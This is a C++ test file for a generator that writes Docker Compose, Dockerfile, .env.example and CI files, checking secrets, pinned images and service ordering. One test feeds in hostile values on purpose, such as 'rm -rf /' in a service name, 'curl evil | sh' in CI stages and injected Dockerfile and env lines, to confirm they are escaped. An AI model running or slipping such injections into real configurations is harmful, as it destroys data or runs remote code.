#include <algorithm>
#include <regex>
#include <set>

#include <doctest/doctest.h>
#include <fmt/format.h>

#include "base/text.hpp"
#include "base/yaml.hpp"
#include "design/design.hpp"
#include "emit/emitter.hpp"

using namespace nonagon;
using namespace nonagon::design;

namespace {

std::string file_of(const Design& design, std::string_view id, std::string_view path) {
  const auto* emitter = emit::find_emitter(id);
  REQUIRE(emitter != nullptr);
  const auto files = emitter->emit(design);
  const auto found = files.find(path);
  return found == files.end() ? std::string{} : found->second;
}

std::string compose_of(const Design& design) {
  return file_of(design, "compose", "infrastructure/compose.yaml");
}

std::string dockerfile_of(const Design& design) {
  return file_of(design, "dockerfile", "infrastructure/Dockerfile");
}

std::string variables_of(const Design& design) {
  return file_of(design, "env-example", "infrastructure/.env.example");
}

std::string pipeline_of(const Design& design) {
  return file_of(design, "ci-workflow", "infrastructure/ci.yml");
}

json::value parsed(const std::string& yaml) {
  auto value = parse_yaml(yaml);
  REQUIRE_MESSAGE(value.has_value(), yaml);
  return *value;
}

Design design_of(std::string_view infrastructure,
                 std::string_view stack = {},
                 std::string_view database = {}) {
  Design design;
  design.name = "Shop";
  design.slug = "shop";
  REQUIRE(read_payload_text(design, StageName::infrastructure, infrastructure).has_value());
  if (!stack.empty()) REQUIRE(read_payload_text(design, StageName::stack, stack).has_value());
  if (!database.empty()) REQUIRE(read_payload_text(design, StageName::database, database).has_value());
  return design;
}

constexpr std::string_view shop = R"json({"hosting": "docker-compose", "environments": [], "services": [
    {"name": "app", "role": "web", "build": true, "command": "serve", "port": 8080, "health": "/healthz", "memory": "256m"},
    {"name": "worker", "role": "jobs", "build": true, "command": "work"},
    {"name": "db", "role": "database", "volume": "db-data"},
    {"name": "cache", "role": "cache"}],
  "envVars": [
    {"name": "DATABASE_URL", "required": true, "secret": true, "description": "Address", "usedBy": ["app", "worker", "migrate", "ci"]},
    {"name": "CURRENCY", "required": true, "default": "EUR", "description": "Currency", "usedBy": ["app", "ci"]},
    {"name": "API_KEY", "required": false, "secret": true, "default": "leaked", "description": "Key", "usedBy": ["worker", "ci"]}],
  "ci": {"provider": "github-actions", "stages": ["install", "lint", "schema", "test", "build", "image"]}})json";

constexpr std::string_view node_stack =
    R"json({"selections": {"language": "TypeScript", "runtime": "node 22", "packageManager": "npm"}, "dependencies": [],
  "structure": {"name": "shop", "type": "folder", "children": [{"name": "server", "type": "folder", "children": [{"name": "main.ts", "type": "file"}]}]}})json";

constexpr std::string_view postgres = R"json({"engine": "postgresql", "version": "17"})json";

std::set<std::string> names_read_by(const std::string& compose) {
  std::set<std::string> names;
  const std::regex name(R"(\$\{([A-Za-z_][A-Za-z0-9_]*))");
  for (std::sregex_iterator at(compose.begin(), compose.end(), name), end; at != end; ++at)
    names.insert((*at)[1]);
  return names;
}

std::set<std::string> names_set_by(const std::string& variables) {
  std::set<std::string> names;
  for (const auto line : split(variables, '\n')) {
    const auto equals = line.find('=');
    if (!line.starts_with('#') && equals != std::string_view::npos) names.emplace(line.substr(0, equals));
  }
  return names;
}

}  // namespace

TEST_CASE("every variable that the compose file reads stands in .env.example") {
  const auto design = design_of(shop, node_stack, postgres);
  const auto set = names_set_by(variables_of(design));
  for (const auto& name : names_read_by(compose_of(design))) CHECK_MESSAGE(set.contains(name), name);
  CHECK(set.contains("POSTGRES_PASSWORD"));  // what the image of the database needs
}

TEST_CASE("services wait for the migration, the migration for the database") {
  const auto compose = parsed(compose_of(design_of(shop, node_stack, postgres)));
  CHECK(compose.at_pointer("/services/app/depends_on/migrate/condition").as_string() ==
        "service_completed_successfully");
  CHECK(compose.at_pointer("/services/migrate/depends_on/db/condition").as_string() == "service_healthy");
  CHECK(compose.at_pointer("/services/db/image").as_string() == "postgres:17.6-bookworm");
  CHECK(compose.at_pointer("/services/migrate/command/2").as_string() == "migrate");
  CHECK(compose.at_pointer("/services/app/command/1").as_string() == "server/main.js");
  CHECK(compose.at_pointer("/services/app/healthcheck/test/0").as_string() == "CMD");
  CHECK(compose.at_pointer("/networks/inside/internal").as_bool());
  CHECK_FALSE(compose.at_pointer("/services/db").as_object().contains("ports"));
}

TEST_CASE("a secret has no default anywhere") {
  const auto design = design_of(shop, node_stack, postgres);
  for (const auto& bytes :
       {compose_of(design), variables_of(design), pipeline_of(design), dockerfile_of(design)}) {
    CHECK(bytes.find("leaked") == std::string::npos);
  }
}

TEST_CASE("the pipeline has its own database and each stage once") {
  const auto pipeline = parsed(pipeline_of(design_of(shop, node_stack, postgres)));
  const auto& job = pipeline.at_pointer("/jobs/verify").as_object();
  CHECK(job.at("services").at_pointer("/db/image").as_string() == "postgres:17.6-bookworm");
  CHECK(job.at("env").as_object().contains("DATABASE_URL"));
  CHECK(job.at("env").at_pointer("/API_KEY").as_string() == "${{ secrets.API_KEY }}");
  std::vector<std::string> runs;
  for (const auto& step : job.at("steps").as_array()) {
    if (const auto* command = step.as_object().if_contains("run")) runs.emplace_back(command->as_string());
  }
  REQUIRE(runs.size() == 6);
  CHECK(runs[0] == "npm ci");
  CHECK(runs[2].starts_with("psql "));
  CHECK(runs[5].starts_with("docker build "));
}

TEST_CASE("no provider, no pipeline; GitLab has its own form") {
  auto design = design_of(shop, node_stack, postgres);
  design.infrastructure.ci->provider = "none";
  CHECK(pipeline_of(design).empty());
  design.infrastructure.ci->provider = "gitlab-ci";
  const auto pipeline = parsed(pipeline_of(design));
  CHECK(pipeline.at_pointer("/default/services/0/alias").as_string() == "db");
  CHECK(pipeline.at_pointer("/lint/script/0").as_string() == "npm run lint");
}

TEST_CASE("every stack has a Dockerfile with pinned images that runs as an ordinary user") {
  const std::vector<std::pair<std::string_view, std::string_view>> stacks{
      {"TypeScript", "node"},
      {"Python 3.13", "python"},
      {"Go 1.25", "golang"},
      {"Java 21", "maven"},
      {"Kotlin", "maven"},
      {"C# / .NET 9", "dotnet"},
      {"Ruby 3.4", "ruby"},
      {"PHP 8.4", "php"},
      {"Rust", "rust"},
      {"C++23", "alpine"},
      {"Haskell", "debian"},
  };
  for (const auto& [language, image] : stacks) {
    CAPTURE(std::string(language));
    const auto stack = fmt::format(R"({{"selections": {{"language": "{}"}}, "dependencies": []}})", language);
    const auto dockerfile = dockerfile_of(design_of(shop, stack, postgres));
    CHECK(dockerfile.find(image) != std::string::npos);
    CHECK(dockerfile.find("\nUSER 10001:10001\n") != std::string::npos);
    CHECK(dockerfile.find(":latest") == std::string::npos);
    CHECK(dockerfile.find("HEALTHCHECK") != std::string::npos);
    CHECK(dockerfile.find("\nCMD [") != std::string::npos);
    CHECK_FALSE(parsed(compose_of(design_of(shop, stack, postgres))).as_object().empty());
  }
}

TEST_CASE("names, commands and defaults of people are data") {
  constexpr std::string_view hostile = R"json({"hosting": "x", "environments": [], "services": [
      {"name": "a b\"; rm -rf /", "role": "web", "build": true, "command": "serve\"] \n RUN evil $HOME ${X}", "port": 80, "health": "/x'); evil(", "memory": "lots", "volume": "../../etc"},
      {"name": "a b\"; rm -rf /", "role": "odd", "image": "img: {x} $Y"}],
    "envVars": [
      {"name": "BAD NAME", "required": true, "description": "x"},
      {"name": "GOOD", "required": true, "default": "a}b$c\n'd\"", "description": "line\nEVIL=1", "usedBy": ["a b\"; rm -rf /", "ci"]}],
    "ci": {"provider": "github-actions", "stages": ["test; curl evil | sh", "test; curl evil | sh", ""]}})json";
  const auto design = design_of(hostile, node_stack);
  const auto compose = parsed(compose_of(design));
  CHECK(compose.at("services").as_object().size() == 2);
  const auto dockerfile = dockerfile_of(design);
  CHECK(dockerfile.find("\n RUN evil") == std::string::npos);
  CHECK(dockerfile.find("evil(") == std::string::npos);
  const auto variables = variables_of(design);
  CHECK(variables.find("\nEVIL=1") == std::string::npos);
  CHECK(names_set_by(variables) == std::set<std::string>{"GOOD"});
  const auto pipeline = pipeline_of(design);
  CHECK(pipeline.find("| sh") == std::string::npos);
  parsed(pipeline);
}

TEST_CASE("an empty stage needs no files but says so") {
  const auto design =
      design_of(R"json({"hosting": "none", "environments": [], "services": [], "envVars": []})json");
  CHECK(compose_of(design).empty());
  CHECK(dockerfile_of(design).empty());
  CHECK(variables_of(design).empty());
  CHECK(pipeline_of(design).empty());
  CHECK_FALSE(file_of(design, "deployment", "infrastructure/deployment.json").empty());
  CHECK_FALSE(file_of(design, "infrastructure-markdown", "infrastructure/infrastructure.md").empty());
}

TEST_CASE("a database in a file has a place that the user may write") {
  const auto design = design_of(shop, node_stack, R"json({"engine": "sqlite"})json");
  const auto compose = parsed(compose_of(design));
  CHECK(compose.at_pointer("/services/app/volumes/0").as_string() == "data:/srv/data");
  CHECK(dockerfile_of(design).find("chown 10001:10001 data") != std::string::npos);
}

TEST_CASE("a proxy of ours stands before the service and is configured") {
  auto design = design_of(shop, node_stack, postgres);
  design.infrastructure.services.push_back({.name = "proxy", .role = "proxy", .port = 443});
  design.infrastructure.env_vars.push_back(
      {.name = "PUBLIC_URL", .required = true, .description = "Address"});
  const auto compose = parsed(compose_of(design));
  CHECK(compose.at_pointer("/services/proxy/ports/1").as_string() == "443:443");
  CHECK(compose.at_pointer("/services/proxy/depends_on/app/condition").as_string() == "service_healthy");
  CHECK(compose.at_pointer("/configs/caddyfile/file").as_string() == "./Caddyfile");
  const auto caddyfile = file_of(design, "compose", "infrastructure/Caddyfile");
  CHECK(caddyfile.find("{$PUBLIC_URL} {\n\tencode zstd gzip\n\treverse_proxy app:8080\n}") !=
        std::string::npos);
  // One with an image of its own is the author's to set up.
  design.infrastructure.services.back().image = "nginx:1.29.1";
  CHECK(file_of(design, "compose", "infrastructure/Caddyfile").empty());
}

TEST_CASE("secrets and history stay out of the image's build") {
  const auto ignored =
      file_of(design_of(shop, node_stack, postgres), "dockerfile", "infrastructure/.dockerignore");
  for (const auto* line : {"\n.git\n", "\n.env\n", "\nnode_modules\n"})
    CHECK_MESSAGE(ignored.find(line) != std::string::npos, line);
}
